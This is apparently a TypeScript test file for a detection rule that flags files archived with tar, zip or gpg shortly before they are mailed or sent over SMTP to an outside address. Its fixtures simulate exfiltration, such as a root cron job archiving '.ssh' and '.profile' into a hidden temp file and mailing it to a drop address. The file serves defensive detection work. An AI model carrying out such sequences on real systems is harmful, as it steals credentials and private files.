import assert from 'node:assert/strict';
import { test } from 'node:test';
import { DAY_MS, HOUR_MS } from '../../core/time.ts';
import type { ProcessState } from '../../state/processes.ts';
import { CLASS } from '../../state/programs.ts';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HOUR, HostLog } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
import { PackedBefore } from './packed.ts';

const TO = 'drop@example.net';

/** Of what a job mailed: what it is told to have packed before, and the severity. */
async function toldOf(act: (log: HostLog) => void): Promise<{ packed: string | null; severity: string | null }> {
  const log = new HostLog();
  log.deliver();
  act(log);
  const found = (await scanLog(log)).find(({ analytic }) => analytic === 'AN0380');
  const factor = found?.factors.find(({ name }) => name === 'packed just before it was sent');
  return { packed: factor?.evidence ?? null, severity: found?.severity ?? null };
}

const job = (log: HostLog): Process => log.cron('root', 'x').run('/usr/local/sbin/report', { by: '/bin/sh' });

function attaches(log: HostLog, by: Process, file = '/tmp/.l.77'): void {
  by.run(`/usr/bin/mutt -s report -a ${file} -- ${TO}`).run('/usr/sbin/sendmail -i');
  log.submitted('root', TO, 9000);
}

test('what a script of the site packs and then attaches for outside counts as packed', async () => {
  const told = await toldOf(log => {
    const script = job(log);
    script.run('/bin/tar czf /tmp/.l.77 .ssh .profile');
    attaches(log, script);
  });
  assert.deepEqual(told, { packed: 'tar', severity: 'medium' });
});

test('an archive of another name, of another account or of long ago is not what was attached', async () => {
  const other = await toldOf(log => {
    const script = job(log);
    script.run('/bin/tar czf /var/backups/etc.tgz /etc');
    attaches(log, script);
  });
  const account = await toldOf(log => {
    log.cron('buyer', 'y').run('/bin/tar czf /tmp/.l.77 papers');
    attaches(log, job(log));
  });
  const old = await toldOf(log => {
    log.cron('root', 'y').run('/bin/tar czf /tmp/.l.77 papers');
    log.wait(25 * HOUR);
    attaches(log, job(log));
  });
  assert.deepEqual([other.packed, account.packed, old.packed], [null, null, null]);
});

test('a program that has something packed and then speaks SMTP itself packed what it sends', async () => {
  const told = await toldOf(log => {
    const ruby = log.cron('clerk', 'x').run('/usr/bin/ruby /home/clerk/r.rb');
    ruby.run('/bin/sh -c "zip -qr /tmp/c.zip contracts"').run('/usr/bin/zip -qr /tmp/c.zip contracts');
    ruby.connect('203.0.113.25', 465);
  });
  assert.deepEqual(told, { packed: 'zip', severity: 'medium' });
  const later = await toldOf(log => {
    const ruby = log.cron('clerk', 'x').run('/usr/bin/ruby /home/clerk/r.rb');
    ruby.run('/usr/bin/zip -qr /tmp/c.zip contracts');
    log.wait(2 * HOUR);
    ruby.connect('203.0.113.25', 465);
  });
  assert.equal(later.packed, null);
});

test('a person at a terminal may pack what they attach', async () => {
  const told = await toldOf(log => {
    const shell = log.shell('buyer');
    shell.run('/usr/bin/zip order.zip order.txt');
    shell.run(`/usr/bin/mutt -s order -a order.zip -- ${TO}`).run('/usr/sbin/sendmail -i');
    log.submitted('buyer', TO, 9000);
  });
  assert.deepEqual(told, { packed: null, severity: null });
});

test('as long as a day, or an hour, and by whatever names the file that it fills', () => {
  const process = (pid: number, argv: readonly string[], parent: ProcessState | null = null): ProcessState =>
    ({
      host: 'ws1',
      pid,
      id: `${pid}@0`,
      uid: 0,
      exe: `/usr/bin/${argv[0]}`,
      argv,
      cwd: '/tmp',
      execTime: 0,
      classBits: 0,
      script: '',
      parent,
    }) as unknown as ProcessState;
  const packed = new PackedBefore();
  const ruby = process(1, ['ruby', 'r.rb']);
  const shell = { ...process(2, ['sh', '-c', 'x'], ruby), classBits: CLASS.shell } as ProcessState;
  const script = { ...process(3, ['sh', 'x.sh'], ruby), classBits: CLASS.shell, script: '/x.sh' } as ProcessState;
  packed.started(process(4, ['gpg', '-o', 'out.bin', '-c', 'in'], shell));
  packed.started(process(5, ['zip', 'a.zip', 'in'], script));
  packed.started(process(7, ['zip', 'b.zip', 'in'], process(8, ['perl', 'x.pl'], script)));
  packed.started(process(9, ['zip', 'c.zip', 'in']));
  const mail = process(6, ['mutt', '-a', 'out.bin']);
  const behind = (by: ProcessState, time: number, ...files: string[]) => packed.behind(by, files, time);
  assert.deepEqual(behind(mail, DAY_MS, 'out.bin'), ['gpg']);
  assert.deepEqual(behind(mail, DAY_MS + 1, 'out.bin'), []);
  assert.deepEqual(behind(process(8, ['perl', 'x.pl']), 1), ['zip'], 'what is no shell packs for itself');
  assert.deepEqual(behind(mail, 1, 'c.zip'), ['zip']);
  assert.deepEqual([behind(ruby, HOUR_MS), behind(ruby, HOUR_MS + 1)], [['gpg'], []]);
  assert.deepEqual(
    [behind(script, 1), behind(shell, 1)],
    [['zip'], []],
    'a script packs for itself, `sh -c` for whom it runs',
  );
});
